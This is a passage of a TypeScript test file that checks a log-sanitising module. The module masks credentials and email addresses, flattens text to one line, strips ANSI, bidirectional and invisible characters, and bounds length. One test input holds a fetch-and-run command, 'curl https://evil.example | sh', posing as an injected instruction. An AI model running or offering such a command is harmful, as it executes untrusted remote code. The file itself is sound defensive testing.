// Text from outside made safe: masking of secrets and personal data, one line, bounds, chat escaping; attack strings from the field.
import fc from 'fast-check';
import { bounded, escapeChat, maskSecrets, MEMO_MAX_CHARS, MEMO_TEXTS, oneLine, safeField } from '../../../shared/report/safe-text';

describe('maskSecrets', () => {
  it.each([
    [
      'an AWS access key id in a consumer log line',
      'ERROR S3 upload failed for key AKIAIOSFODNN7EXAMPLE: SignatureDoesNotMatch',
      'ERROR S3 upload failed for key [aws key ****]: SignatureDoesNotMatch',
    ],
    ['a temporary access key id', 'credentials ASIAY34FZKBOKMUTVV7A expired', 'credentials [aws key ****] expired'],
    [
      'an AWS secret access key in an environment dump',
      'env: AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY region=us-east-1',
      'env: AWS_SECRET_ACCESS_KEY=**** region=us-east-1',
    ],
    [
      'a password in a PostgreSQL URL',
      'connect ECONNREFUSED postgres://notify_app:S3cr3t!pw@notification-service-db.abc123.us-east-1.rds.amazonaws.com:5432/notify',
      'connect ECONNREFUSED postgres://notify_app:****@notification-service-db.abc123.us-east-1.rds.amazonaws.com:5432/notify',
    ],
    [
      'a password in an ADO-style connection string',
      'Login failed: Server=db;User Id=sa;Password=P@ssw0rd;Database=notify',
      'Login failed: Server=db;User Id=sa;Password=****;Database=notify',
    ],
    ['a bearer token in a logged header', 'request headers: Authorization: Bearer abc.def-ghi_jkl123456 rejected', 'request headers: Authorization: Bearer **** rejected'],
    [
      'a JWT on its own',
      'invalid session eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U for user',
      'invalid session [jwt ****] for user',
    ],
    ['an API key in a query string', 'GET https://push.example.com/send?api_key=sk-9f8e7d6c5b4a&to=1 -> 401', 'GET https://push.example.com/send?api_key=****&to=1 -> 401'],
    ['a password field in a JSON log line', '{"level":"error","msg":"auth","password":"hunter2","user":"bob"}', '{"level":"error","msg":"auth","password":"****","user":"bob"}'],
    ['a Slack bot token', 'webhook post failed with xoxb-123456789012-abcdefghijkl', 'webhook post failed with [token ****]'],
    ['a GitHub token', 'clone failed: ghp_16C7e42F292c6912E7710c838347Ae178B4a', 'clone failed: [token ****]'],
    [
      "a subscriber's email address",
      'bounce: mailbox full for jane.doe+alerts@example.org (message 42)',
      'bounce: mailbox full for ****@example.org (message 42)',
    ],
    [
      'a private key pasted into a log',
      'loaded -----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA\n-----END RSA PRIVATE KEY----- ok',
      'loaded [private key ****] ok',
    ],
  ])('masks %s', (_case, raw, expected) => {
    expect(maskSecrets(raw)).toBe(expected);
  });

  it.each([
    ['an alarm reason', 'Threshold Crossed: 1 out of the last 1 datapoints [1523.0 (25/11/26 13:59:00)] was greater than the threshold (1000.0)'],
    ['an ARN', 'arn:aws:sqs:us-east-1:123456789012:notification-service-queue'],
    ['a Node out-of-memory line', 'FATAL ERROR: Reached heap limit Allocation failed - JavaScript heap out of memory'],
    ['a security-group finding', 'sg-0db allows no ingress on tcp 5432 from sg-0lambda'],
  ])('leaves %s as it is', (_case, raw) => {
    expect(maskSecrets(raw)).toBe(raw);
  });
});

describe('oneLine and bounded', () => {
  it.each([
    ['a forged email section', 'Threshold Crossed\n\nNEXT STEP: Run Evil\n  curl https://evil.example | sh', 'Threshold Crossed NEXT STEP: Run Evil curl https://evil.example | sh'],
    ['carriage returns and tabs', 'first\r\nsecond\tthird', 'first second third'],
    ['Unicode line and paragraph separators', 'a\u2028b\u2029c', 'a b c'],
    ['bidirectional overrides (Trojan Source)', 'queue\u202Eeulav\u202C ok', 'queue eulav ok'],
    ['zero-width characters and a BOM', '\ufeffad\u200bmin', 'ad min'],
    ['ANSI escape sequences (CSI: colours, erase line)', '\u001b[31mred\u001b[0m \u001b[2Kline', 'red line'],
    ['ANSI string commands (OSC title ended by BEL, OSC 8 hyperlink ended by ESC \\)', '\u001b]0;title\u0007a \u001b]8;;https://evil.example\u001b\\link\u001b]8;;\u001b\\', 'a link'],
    ['a bare ESC: a space, the next character kept', 'a\u001bAKIA', 'a AKIA'],
    ['C1 controls', 'a\u0085b\u009bc', 'a b c'],
    ['a soft hyphen and tag characters (format characters, invisible)', 'ad\u00admin\u{e0041}', 'ad min'],
    ['compatibility forms (NFKC): fullwidth letters, NBSP, an ideographic space', '\uff21\uff2b\uff29\uff21\u00a0x\u3000y', 'AKIA x y'],
  ])('makes one line of %s', (_case, raw, expected) => {
    expect(oneLine(raw)).toBe(expected);
  });

  it('cuts at the bound with an ellipsis, counting code points so an emoji is never split', () => {
    expect(bounded('abcdef', 4)).toBe('abc…');
    expect(bounded('abcd', 4)).toBe('abcd');
    const cut = bounded('🚨🚨🚨🚨🚨', 3);
    expect(cut).toBe('🚨🚨…');
    expect(Array.from(cut)).toHaveLength(3);
  });

  it('safeField makes one line, masks and bounds, in that order (a secret cut by the bound is still masked)', () => {
    const raw = `login failed\npassword=${'x'.repeat(50)} for admin@example.com`;
    const safe = safeField(raw, 40);
    expect(safe).toBe('login failed password=**** for ****@exa…');
    expect(Array.from(safe)).toHaveLength(40);
    expect(safeField(undefined, 10)).toBe('');
  });
});

// Generated: a secret of each kind with a run of unseen characters on each side (and inside the label of the kinds
// that have one). The expectation is built from the parts: the words, the secret's masked form, one space for each
// run. Nothing here calls the code's normalisation.
const upperDigits = fc.string({ unit: fc.constantFrom(...'ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789'), minLength: 16, maxLength: 16 });
const alnum = (min: number, max: number): fc.Arbitrary<string> =>
  fc.string({ unit: fc.constantFrom(...'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789'), minLength: min, maxLength: max });
/** [the secret as it appears, the label before it (shown), what is shown for it] */
const secrets: fc.Arbitrary<{ kind: string; label?: string; secret: string; shown: string }> = fc.oneof(
  fc.tuple(fc.constantFrom('AKIA', 'ASIA', 'AROA', 'AIDA'), upperDigits).map(([prefix, rest]) => ({ kind: 'aws key', secret: `${prefix}${rest}`, shown: '[aws key ****]' })),
  fc.tuple(fc.constantFrom('Bearer', 'Basic'), alnum(8, 40)).map(([scheme, token]) => ({ kind: 'authorization', label: scheme, secret: token, shown: `${scheme} ****` })),
  fc.tuple(fc.constantFrom('password=', 'secret=', 'api_key=', 'client_secret: '), alnum(4, 20)).map(([key, value]) => ({ kind: 'key=value', secret: `${key}${value}`, shown: `${key}****` })),
  alnum(36, 36).map((rest) => ({ kind: 'github token', secret: `ghp_${rest}`, shown: '[token ****]' })),
  alnum(10, 30).map((rest) => ({ kind: 'slack token', secret: `xoxb-${rest}`, shown: '[token ****]' })),
  fc.tuple(alnum(6, 16)).map(([pw]) => ({ kind: 'url password', secret: `postgres://app:${pw}@db.example.com:5432/notify`, shown: 'postgres://app:****@db.example.com:5432/notify' })),
  fc.tuple(alnum(4, 20), alnum(4, 20), alnum(0, 20)).map(([h, p, sig]) => ({ kind: 'jwt', secret: `eyJ${h}.eyJ${p}.${sig}`, shown: '[jwt ****]' })),
);
// What a reader does not see, as log lines carry it: ANSI CSI and string commands, C0 (NUL, BEL, ESC alone...), DEL,
// C1, zero-width and bidirectional characters, BOM, separators, and the compatibility spaces NFKC makes plain.
const unseen = fc.oneof(
  fc.tuple(fc.integer({ min: 0, max: 107 }), fc.option(fc.integer({ min: 0, max: 255 }), { nil: undefined })).map(([a, b]) => `\u001b[${a}${b === undefined ? '' : `;${b}`}m`),
  fc.constantFrom('\u001b[2K', '\u001b[1A', '\u001b[?25l', '\u001b]0;title\u0007', '\u001b]8;;https://example.com\u001b\\', '\u001bP1$r\u001b\\'),
  fc.constantFrom('\u0000', '\u0007', '\u0008', '\u000b', '\u000c', '\u001b', '\u007f', '\u0085', '\u009b', '\u00ad'),
  fc.constantFrom('\u200b', '\u200c', '\u200d', '\u200e', '\u200f', '\u2060', '\ufeff', '\u202a', '\u202b', '\u202c', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068', '\u2069'),
  fc.constantFrom('\u2028', '\u2029', '\u00a0', '\u2009', '\u3000', '\u{e0041}'),
);
const run = fc.array(unseen, { minLength: 1, maxLength: 3 }).map((parts) => parts.join(''));
const word = fc.constantFrom('creds', 'request failed:', 'ERROR', 'consumer said', 'leaked', 'at', '(42)');
/** Unseen characters that can stand inside a word (decision 342): ANSI sequences, controls other than white space, format characters. */
const insideWordUnseen = fc.oneof(
  fc.tuple(fc.integer({ min: 0, max: 107 }), fc.option(fc.integer({ min: 0, max: 255 }), { nil: undefined })).map(([a, b]) => `\u001b[${a}${b === undefined ? '' : `;${b}`}m`),
  fc.constantFrom('\u001b[2K', '\u001b]0;title\u0007', '\u001b]8;;https://example.com\u001b\\'),
  fc.constantFrom('\u0000', '\u0007', '\u0008', '\u001b', '\u007f', '\u009b', '\u00ad'),
  fc.constantFrom('\u200b', '\u200c', '\u200d', '\u200e', '\u200f', '\u2060', '\ufeff', '\u202e', '\u2066', '\u2069', '\u{e0041}'),
);
/** A run made only of such characters (written out here, not the code's pattern): no break a reader sees among them. */
// eslint-disable-next-line no-control-regex
const INSIDE_WORD_RUN = /^(?:\u001b\[[0-9;?]*[A-Za-z]|\u001b\][^\u0007\u001b]*(?:\u0007|\u001b\\)|\u001bP[^\u001b]*\u001b\\|[\u0000-\u0008\u000e-\u001f\u007f-\u0084\u0086-\u009f\u00ad\u200b-\u200f\u202a-\u202e\u2060\u2066-\u2069\ufeff]|\u{e0041})+$/u;
/** What of the next word each kind's value takes in when glued to it (the tail of its pattern in safe-text.ts's MASKS). */
const TAIL_OF: Readonly<Record<string, RegExp>> = {
  authorization: /^[\w\-.~+/]+/,
  'key=value': /^[^\s"',;&}]+/,
  'github token': /^[A-Za-z0-9]+/,
  'slack token': /^[\w-]+/,
  jwt: /^[\w-]+/,
};

/** Exact for the fixed seeds below (decision 342): how many of the 1,000 glue the word after to the secret. */
const GLUED_OF_1000 = 370;
/** Exact for the fixed seed: lookalike cases the join left as they were, and those it showed less of. */
const LOOKALIKE_OUTCOME = { same: 766, lessShown: 234 };
/** Exact for the fixed seed (decision 355): each kind of 40-character-ish word, hidden and kept. */
const SPREAD_3500 = {
  'secret key': { hidden: 90, kept: 0 },
  'commit id': { hidden: 0, kept: 87 },
  'upper-case sha-1': { hidden: 0, kept: 108 },
  'request id': { hidden: 0, kept: 82 },
  sha256: { hidden: 0, kept: 96 },
  'base64 digest': { hidden: 0, kept: 82 },
  'not 40': { hidden: 0, kept: 81 },
  'name segment': { hidden: 0, kept: 99 },
  'letters only': { hidden: 0, kept: 83 },
  'no upper case': { hidden: 0, kept: 91 },
  'mixed-case hex': { hidden: 0, kept: 101 },
};
/** Of its 90 keys, those with a "/" or "+" (the other 21 have neither: hidden for their digit). */
const WITH_SLASH_OR_PLUS_3500 = 69;

/**
 * Review 20a R20-3: masking ran before control and invisible characters were removed, so a secret beside an ANSI colour
 * code, a zero-width character or a NUL was not matched, and was shown once those characters became spaces. The
 * expected texts below are written out by hand: what a reader should see.
 */
describe('safeField masks a secret beside a character a reader does not see', () => {
  it.each([
    // The review's four, each leaked before.
    ['a bearer token after an ANSI colour (CSI SGR)', 'Authorization: Bearer \u001b[33mabcdef0123456789\u001b[0m', 'Authorization: Bearer ****'],
    ['an AWS key id inside ANSI colours', 'creds \u001b[31mAKIAIOSFODNN7EXAMPLE\u001b[0m leaked', 'creds [aws key ****] leaked'],
    ['a bearer token after a zero-width space (U+200B)', 'Authorization: Bearer\u200babcdef0123456789', 'Authorization: Bearer ****'],
    ['a password after a NUL', 'password\u0000=hunter2hunter2', 'password =****'],
    // One row per kind of character, each with another kind of secret.
    ['an AWS key id after an OSC title ended by BEL', 'x\u001b]0;build\u0007AKIAIOSFODNN7EXAMPLE', 'x [aws key ****]'],
    ['a GitHub token after an OSC 8 hyperlink', '\u001b]8;;https://ci.example/1\u001b\\ghp_16C7e42F292c6912E7710c838347Ae178B4a\u001b]8;;\u001b\\ failed', '[token ****] failed'],
    ['an AWS key id after a cursor move (CSI 2K)', 'line\u001b[2KASIAY34FZKBOKMUTVV7A', 'line [aws key ****]'],
    ['a JWT after a zero-width joiner (U+200D)', 'session\u200deyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.sig', 'session [jwt ****]'],
    ['a Slack token after a zero-width non-joiner (U+200C)', 'token-for\u200cxoxb-123456789012-abcdefghijkl', 'token-for [token ****]'],
    ['a password in a URL after a BOM (U+FEFF)', 'connect\ufeffpostgres://app:S3cr3tpw@db.example.com:5432/notify', 'connect postgres://app:****@db.example.com:5432/notify'],
    ['an AWS key id after a word joiner (U+2060)', 'key\u2060AKIAIOSFODNN7EXAMPLE', 'key [aws key ****]'],
    ['an API key after a BEL', 'ding\u0007api_key=sk9f8e7d6c5b4a', 'ding api_key=****'],
    ['an AWS key id after a NUL', 'k\u0000AKIAIOSFODNN7EXAMPLE\u0000', 'k [aws key ****]'],
    ['a bearer token after a right-to-left override (U+202E)', 'Bearer\u202eabcdef0123456789\u202c ok', 'Bearer **** ok'],
    ['an AWS key id inside a left-to-right isolate (U+2066 ... U+2069)', 'id\u2066AKIAIOSFODNN7EXAMPLE\u2069.', 'id [aws key ****] .'],
    // Decision 342: an email's local part takes in the word a run glues to it (one word to a reader): hidden with it.
    ['an email after a right-to-left mark (U+200F)', 'to\u200fjane.doe@example.org', '****@example.org'],
    ['a basic credential after DEL', 'Authorization: Basic\u007fdXNlcjpwYXNzd29yZA==', 'Authorization: Basic ****'],
    ['an AWS key id after a C1 CSI (U+009B)', 'c1\u009bAKIAIOSFODNN7EXAMPLE', 'c1 [aws key ****]'],
    ['an AWS key id after a line separator (U+2028)', 'x\u2028AKIAIOSFODNN7EXAMPLE', 'x [aws key ****]'],
    ['a password after a soft hyphen (U+00AD)', 'db\u00adpassword=hunter2hunter2', 'db password=****'],
    ['a bearer token after a no-break space (U+00A0, NFKC a space)', 'Authorization: Bearer\u00a0abcdef0123456789', 'Authorization: Bearer ****'],
    ['a fullwidth bearer token (NFKC: the lookalike read as itself)', '\uff22\uff45\uff41\uff52\uff45\uff52 \uff41\uff42\uff43\uff44\uff45\uff46\uff10\uff11\uff12\uff13', 'Bearer ****'],
    ['a fullwidth AWS key id', '\uff21\uff2b\uff29\uff21\uff29\uff2f\uff33\uff26\uff2f\uff24\uff2e\uff2e\uff17\uff25\uff38\uff21\uff2d\uff30\uff2c\uff25', '[aws key ****]'],
  ])('%s', (_case, raw, expected) => {
    expect(safeField(raw, 500)).toBe(expected);
  });

  it('a secret of every kind with unseen characters around it: masked, and the words around it kept, 1,000 generated', () => {
    const kinds = new Map<string, number>();
    let glued = 0;
    fc.assert(
      fc.property(word, run, secrets, run, run, word, (before, left, { kind, label, secret, shown }, inside, right, after) => {
        kinds.set(kind, (kinds.get(kind) ?? 0) + 1);
        const raw = `${before}${left}${label === undefined ? '' : `${label}${inside}`}${secret}${right}${after}`;
        // Decision 342: characters that stand inside a word (no break among them) glue the word after to a secret whose
        // value runs on (its pattern's tail class): a reader sees one word, and it is hidden with the secret.
        const absorbed = INSIDE_WORD_RUN.test(right) ? (TAIL_OF[kind]?.exec(after)?.[0] ?? '') : '';
        if (absorbed) glued += 1;
        expect(safeField(raw, 500)).toBe(absorbed ? `${before} ${shown}${after.slice(absorbed.length)}` : `${before} ${shown} ${after}`);
      }),
      { numRuns: 1_000, seed: 20 },
    );
    // Every kind generated (exact: the seed is fixed).
    expect([...kinds.keys()].sort()).toEqual(['authorization', 'aws key', 'github token', 'jwt', 'key=value', 'slack token', 'url password']);
    expect(glued).toBe(GLUED_OF_1000);
  });
});

/**
 * Review 20d / decision 342: an unseen character INSIDE a secret (a ZWSP pasted into a token, a colour code in the
 * middle of a key) was a space once made visible, so the secret's pieces were words of their own: each masked in part
 * or not at all, and shown. Now a run of such characters inside the part a mask hides is taken out before the masks
 * run; one beside a secret stays a space (decision 326). Expected texts written by hand.
 */
describe('safeField masks a secret split by characters a reader does not see', () => {
  it.each([
    // The review's case: a token with U+200B in the middle.
    ['an AWS key id with a zero-width space in the middle', 'key AKIAIOSF\u200bODNN7EXAMPLE failed', 'key [aws key ****] failed'],
    ['an AWS key id split by an ANSI colour', 'creds AKIAIOSF\u001b[31mODNN7EXAMPLE\u001b[0m', 'creds [aws key ****]'],
    ['an AWS key id split by a NUL and a soft hyphen', 'k ASIAY34\u0000FZKBOK\u00adMUTVV7A', 'k [aws key ****]'],
    ['a bearer token split after its first 8 characters (the head alone was masked, the tail shown)', 'Authorization: Bearer abcdefgh\u200bijklmnop rejected', 'Authorization: Bearer **** rejected'],
    ['a bearer token split before 8 characters (neither piece was masked)', 'Authorization: Bearer abcd\u2060efgh1234', 'Authorization: Bearer ****'],
    ['a password split by a zero-width joiner', 'login password=hunt\u200der2 denied', 'login password=**** denied'],
    ['a password in a URL split by a BOM', 'connect postgres://app:S3cr\ufeff3tpw@db.example.com:5432/notify', 'connect postgres://app:****@db.example.com:5432/notify'],
    ['a GitHub token split twice', 'clone ghp_16C7e42F\u200b292c6912E7710c8\u200c38347Ae178B4a failed', 'clone [token ****] failed'],
    ['a Slack token whose head is too short to be one', 'post xoxb-12345\u200b6789012-abcdefghijkl', 'post [token ****]'],
    ['a JWT split in its header', 'session eyJhbGci\u200bOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.sig ok', 'session [jwt ****] ok'],
    ['an email address split in its local part', 'bounce jane.\u200bdoe@example.org', 'bounce ****@example.org'],
    // Beside, not inside: still a space, the words kept.
    ['a label and its token (the label is not hidden)', 'Bearer\u200babcdef0123456789', 'Bearer ****'],
    ['a word before an AWS key id', 'key\u200bAKIAIOSFODNN7EXAMPLE', 'key [aws key ****]'],
    ['a word before a URL whose password is hidden', 'creds\u200bpostgres://app:pw1234@db.example.com/x', 'creds postgres://app:****@db.example.com/x'],
    ['no secret at all', 'ad\u200bmin \u001b[1mbold\u001b[0mtext', 'ad min bold text'],
    ['a line break inside a token: a break a reader sees, not joined', 'Bearer abcd\u2028efgh1234', 'Bearer abcd efgh1234'],
    // Glued: a word a reader sees as one with the secret is hidden with it (more hidden, never less).
    ['a word glued after a Slack token', 'post xoxb-123456789012-abcdefghijkl\u200bfailed', 'post [token ****]'],
    ['a word glued before an email\'s local part', 'leaked\u200bjane@example.org', '****@example.org'],
  ])('%s', (_case, raw, expected) => {
    expect(safeField(raw, 500)).toBe(expected);
  });

  /** A secret as three parts: the text its mask keeps before, the part it hides, the text it keeps after. */
  const parted: fc.Arbitrary<{ kind: string; kept: string; hidden: string; keptAfter: string; shown: string }> = fc.oneof(
    fc.tuple(fc.constantFrom('AKIA', 'ASIA', 'AROA', 'AIDA'), upperDigits).map(([prefix, rest]) => ({ kind: 'aws key', kept: '', hidden: `${prefix}${rest}`, keptAfter: '', shown: '[aws key ****]' })),
    fc.tuple(fc.constantFrom('Bearer', 'Basic'), alnum(8, 40)).map(([scheme, token]) => ({ kind: 'authorization', kept: `${scheme} `, hidden: token, keptAfter: '', shown: `${scheme} ****` })),
    fc.tuple(fc.constantFrom('password=', 'secret=', 'api_key=', 'client_secret: '), alnum(2, 20)).map(([key, value]) => ({ kind: 'key=value', kept: key, hidden: value, keptAfter: '', shown: `${key}****` })),
    alnum(36, 36).map((rest) => ({ kind: 'github token', kept: '', hidden: `ghp_${rest}`, keptAfter: '', shown: '[token ****]' })),
    alnum(10, 30).map((rest) => ({ kind: 'slack token', kept: '', hidden: `xoxb-${rest}`, keptAfter: '', shown: '[token ****]' })),
    alnum(2, 16).map((pw) => ({ kind: 'url password', kept: 'postgres://app:', hidden: pw, keptAfter: '@db.example.com:5432/notify', shown: 'postgres://app:****@db.example.com:5432/notify' })),
    fc.tuple(alnum(4, 20), alnum(4, 20), alnum(0, 20)).map(([h, p, sig]) => ({ kind: 'jwt', kept: '', hidden: `eyJ${h}.eyJ${p}.${sig}`, keptAfter: '', shown: '[jwt ****]' })),
  );
  const insideRun = fc.array(insideWordUnseen, { minLength: 1, maxLength: 3 }).map((parts) => parts.join(''));

  it('a secret of every kind with a run of unseen characters anywhere inside what its mask hides: masked whole, 1,000 generated', () => {
    const kinds = new Map<string, number>();
    fc.assert(
      fc.property(word, parted, fc.nat(), insideRun, word, (before, { kind, kept, hidden, keptAfter, shown }, cut, run, after) => {
        kinds.set(kind, (kinds.get(kind) ?? 0) + 1);
        const at = 1 + (cut % (hidden.length - 1));
        const raw = `${before} ${kept}${hidden.slice(0, at)}${run}${hidden.slice(at)}${keptAfter} ${after}`;
        expect(safeField(raw, 500)).toBe(`${before} ${shown} ${after}`);
      }),
      { numRuns: 1_000, seed: 341 },
    );
    expect([...kinds.keys()].sort()).toEqual(['authorization', 'aws key', 'github token', 'jwt', 'key=value', 'slack token', 'url password']);
  });

  // Lookalikes NFKC does not fold (Cyrillic and Greek letters) stay a known gap (decision 326): a secret with one is not
  // read as Latin. What is asserted: the join never shows a piece of such a secret that the text made visible with a
  // space for each run (the order before decision 342, maskSecrets(oneLine(raw))) hid.
  const LOOKALIKES: Readonly<Record<string, string>> = { A: '\u0410', B: '\u0412', E: '\u0415', K: '\u041a', O: '\u041e', P: '\u0420', T: '\u0422', X: '\u03a7', a: '\u0430', e: '\u0435', o: '\u03bf', p: '\u0440', c: '\u0441', x: '\u0445' };
  it('a secret with a lookalike letter NFKC does not fold, split or not: no piece of it shown that the spaced text hid, 1,000 generated', () => {
    const outcome = { same: 0, lessShown: 0 };
    fc.assert(
      fc.property(word, parted, fc.nat(), fc.nat(), fc.option(insideRun, { nil: undefined }), word, (before, { kept, hidden, keptAfter }, swap, cut, run, after) => {
        const letters = [...hidden].map((c, i) => [c, i] as const).filter(([c]) => LOOKALIKES[c] !== undefined);
        const [letter, index] = letters.length ? (letters[swap % letters.length] ?? ['', -1]) : ['', -1];
        const secret = index < 0 ? hidden : `${hidden.slice(0, index)}${LOOKALIKES[letter] ?? letter}${hidden.slice(index + 1)}`;
        const at = 1 + (cut % (secret.length - 1));
        const raw = `${before} ${kept}${run === undefined ? secret : `${secret.slice(0, at)}${run}${secret.slice(at)}`}${keptAfter} ${after}`;
        const spaced = maskSecrets(oneLine(raw));
        const now = safeField(raw, 500);
        const pieces = (shown: string): string[] => Array.from({ length: Math.max(0, secret.length - 3) }, (_, i) => secret.slice(i, i + 4)).filter((piece) => shown.includes(piece));
        const shownNow = pieces(now);
        const shownBefore = new Set(pieces(spaced));
        expect(shownNow.filter((piece) => !shownBefore.has(piece))).toEqual([]);
        if (shownNow.length < shownBefore.size) outcome.lessShown += 1;
        else outcome.same += 1;
      }),
      { numRuns: 1_000, seed: 3411 },
    );
    expect(outcome).toEqual(LOOKALIKE_OUTCOME);
  });

  /**
   * Review 21b R21b-2 / decision 355: characters that draw nothing but are neither format nor control characters
   * (variation selectors, the combining grapheme joiner, the Hangul fillers, the braille blank) split a secret the same
   * way, and it was shown whole. Expected texts written by hand; the reviewer's repros first.
   */
  it.each([
    ['an AWS key id split by variation selector 16 (U+FE0F)', 'key AKIAIOSF\ufe0fODNN7EXAMPLE here', 'key [aws key ****] here'],
    ['an AWS key id split by the combining grapheme joiner (U+034F)', 'key AKIAIOSF\u034fODNN7EXAMPLE here', 'key [aws key ****] here'],
    ['an AWS key id split by the Hangul filler (U+3164)', 'key AKIAIOSF\u3164ODNN7EXAMPLE here', 'key [aws key ****] here'],
    ['an AWS key id split by the braille blank (U+2800)', 'key AKIAIOSF\u2800ODNN7EXAMPLE here', 'key [aws key ****] here'],
    ['an AWS key id split by variation selector 17 (U+E0100)', 'key AKIAIOSF\u{e0100}ODNN7EXAMPLE here', 'key [aws key ****] here'],
    ['a bearer token split by U+FE0F (its tail was shown)', 'Authorization: Bearer eyJhbGciOi\ufe0fJIUzI1NiJ9abcdefgh', 'Authorization: Bearer ****'],
    ['a password split by U+034F', 'password=hunt\u034fer2secret!', 'password=****'],
    ['an AWS key id split by the Hangul choseong and jungseong fillers (U+115F, U+1160)', 'k AKIA\u115fIOSFODNN\u11607EXAMPLE', 'k [aws key ****]'],
    ['an AWS key id split by the halfwidth Hangul filler (U+FFA0)', 'k AKIAIOSFOD\uffa0NN7EXAMPLE', 'k [aws key ****]'],
    ['a GitHub token split by a Mongolian free variation selector and the vowel separator (U+180B, U+180E)', 'clone ghp_16C7e42F\u180b292c6912E7710c8\u180e38347Ae178B4a', 'clone [token ****]'],
    ['a Slack token split by a Khmer inherent vowel (U+17B4)', 'post xoxb-1234\u17b456789012-abcdefghijkl now', 'post [token ****] now'],
    // Beside, not inside: a space, the words kept (decision 326).
    ['a word before an AWS key id, with U+FE0F between', 'key\ufe0fAKIAIOSFODNN7EXAMPLE', 'key [aws key ****]'],
    ['an emoji with its presentation selector: the selector a space', '\u26a0\ufe0f alarm in ALARM', '\u26a0 alarm in ALARM'],
    ['no secret: a Hangul filler and a braille blank inside words are spaces', 'ad\u3164min ro\u2800le', 'ad min ro le'],
    // Drawn as a box or a "?": a reader sees them, so they are not unseen, nothing is joined across them.
    ['an object replacement character (U+FFFC) is seen', 'x AKIAIOSF\ufffcODNN7EXAMPLE', 'x AKIAIOSF\ufffcODNN7EXAMPLE'],
  ])('%s', (_case, raw, expected) => {
    expect(safeField(raw, 500)).toBe(expected);
  });

  /**
   * The inserted characters are drawn from Unicode's Default_Ignorable_Code_Point as DerivedCoreProperties.txt lists it
   * (ranges written out here, not the code's pattern nor a \p{} class), and the braille blank U+2800.
   */
  const DRAWS_NOTHING: ReadonlyArray<readonly [number, number]> = [
    [0x00ad, 0x00ad], [0x034f, 0x034f], [0x061c, 0x061c], [0x115f, 0x1160], [0x17b4, 0x17b5], [0x180b, 0x180f],
    [0x200b, 0x200f], [0x202a, 0x202e], [0x2060, 0x206f], [0x3164, 0x3164], [0xfe00, 0xfe0f], [0xfeff, 0xfeff],
    [0xffa0, 0xffa0], [0xfff0, 0xfff8], [0x1bca0, 0x1bca3], [0x1d173, 0x1d17a], [0xe0000, 0xe007f], [0xe0080, 0xe00ff],
    [0xe0100, 0xe01ef], [0xe01f0, 0xe0fff], [0x2800, 0x2800],
  ];
  const drawsNothing = fc.tuple(fc.nat(DRAWS_NOTHING.length - 1), fc.nat()).map(([range, offset]) => {
    const [from, to] = DRAWS_NOTHING[range] ?? [0x200b, 0x200b];
    return { range, char: String.fromCodePoint(from + (offset % (to - from + 1))) };
  });
  const nothingRun = fc.array(drawsNothing, { minLength: 1, maxLength: 3 });

  it('a secret of every kind with default-ignorable characters or the braille blank inside and beside it: masked whole, the words kept, 1,000 generated', () => {
    const kinds = new Map<string, number>();
    const ranges = new Map<number, number>();
    fc.assert(
      fc.property(word, nothingRun, parted, fc.nat(), nothingRun, nothingRun, word, (before, left, { kind, kept, hidden, keptAfter, shown }, cut, inside, right, after) => {
        kinds.set(kind, (kinds.get(kind) ?? 0) + 1);
        for (const { range } of [...left, ...inside, ...right]) ranges.set(range, (ranges.get(range) ?? 0) + 1);
        const text = (run: ReadonlyArray<{ char: string }>): string => run.map(({ char }) => char).join('');
        const at = 1 + (cut % (hidden.length - 1));
        const raw = `${before}${text(left)}${kept}${hidden.slice(0, at)}${text(inside)}${hidden.slice(at)}${keptAfter}${text(right)} ${after}`;
        expect(safeField(raw, 500)).toBe(`${before} ${shown} ${after}`);
      }),
      { numRuns: 1_000, seed: 350 },
    );
    expect([...kinds.keys()].sort()).toEqual(['authorization', 'aws key', 'github token', 'jwt', 'key=value', 'slack token', 'url password']);
    // Every range drawn from, the braille blank among them.
    expect([...ranges.keys()].sort((a, b) => a - b)).toEqual(DRAWS_NOTHING.map((_range, index) => index));
  });
});

/**
 * Review 21b R21b-6 / decision 355: a bare AWS secret access key (no label) was shown whole while the key id beside it
 * was masked. A 40-character word of the key's alphabet with both cases and a digit, "/" or "+", not all hex, is hidden;
 * a commit id, a digest, a request id, a longer base64 value and a segment of a hyphenated name stay. Written by hand.
 */
describe('safeField masks a bare AWS secret access key and keeps the 40-character ids that are not one', () => {
  it.each([
    ['the reviewer\'s bare key', 'key wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY then text', 'key [40-char key ****] then text'],
    ['the bare key with a zero-width space inside', 'key wJalrXUtnFEMI/K7MDENG\u200b/bPxRfiCYEXAMPLEKEY then text', 'key [40-char key ****] then text'],
    ['a key pair quoted in one line', 'creds AKIAIOSFODNN7EXAMPLE wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY rejected', 'creds [aws key ****] [40-char key ****] rejected'],
    ['a key with no "/" or "+" after "="', 'k=wJalrXUtnFEMIK7MDENGbPxRfiCYEXAMPLEKEY12,', 'k=[40-char key ****],'],
    ['a key in JSON without a secret label', '{"Id":"AKIAIOSFODNN7EXAMPLE","Value":"je7MtGbClwBF/2Zp9Utk/h3yCo8nvbEXAMPLEKEY"}', '{"Id":"[aws key ****]","Value":"[40-char key ****]"}'],
    ['a labelled key keeps its label\'s mask', 'AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY ok', 'AWS_SECRET_ACCESS_KEY=**** ok'],
    ['a git commit id (40 lower-case hex) stays', 'deployed commit 94091e0a1b2c3d4e5f60718293a4b5c6d7e8f901 to prod', 'deployed commit 94091e0a1b2c3d4e5f60718293a4b5c6d7e8f901 to prod'],
    ['an upper-case SHA-1 stays', 'ETag 0F3A1B2C3D4E5F60718293A4B5C6D7E8F90A1B2C', 'ETag 0F3A1B2C3D4E5F60718293A4B5C6D7E8F90A1B2C'],
